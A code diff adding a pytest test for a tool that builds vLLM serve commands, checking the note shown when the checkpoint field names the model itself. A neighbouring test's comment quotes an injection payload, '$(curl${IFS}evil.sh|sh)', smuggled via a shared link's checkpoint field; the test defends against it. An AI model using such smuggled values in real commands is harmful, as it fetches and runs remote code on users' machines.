@@ -390,6 +390,19 @@ def test_what_if_without_a_checkpoint_shows_a_note_not_a_16_bit_command() -> Non
     assert command.startswith("vllm serve someone/Qwen3-8B-GPTQ-Int4 ")
 
 
+def test_the_model_itself_as_the_checkpoint_is_told_to_empty_the_field() -> None:
+    # (review h440 #8) the model's own BF16 checkpoint is no GPTQ one, and planning it
+    # "itself" is what the page already does: the way out is the field emptied, in its words
+    query = {"model": "Qwen/Qwen3-8B", "gpu": "l4", "gpn": "1", "tp": "1", "quant": "gptq"}
+    at = open_page(None, **query, ckpt="Qwen/Qwen3-8B")
+    assert not at.exception
+    [note] = [i.value for i in at.info if "is the model planned itself" in i.value]
+    assert ("Qwen/Qwen3-8B is the model planned itself, whose checkpoint holds bf16 weights "
+            "(BF16), not the w4a16-gptq-g128 planned: empty the Plan page's \"Checkpoint in "
+            "this format\" field to have vLLM make GPTQ int4") in note, note
+    assert "--target-checkpoint" not in note and "Model page" not in note
+
+
 def test_a_linked_checkpoint_cannot_inject_shell_or_flags_into_the_command() -> None:
     # a shared link's ckpt was pasted into the command as is: "vllm serve
     # $(curl${IFS}evil.sh|sh) ..." passed vLLM's parser and ran the substitution when copied
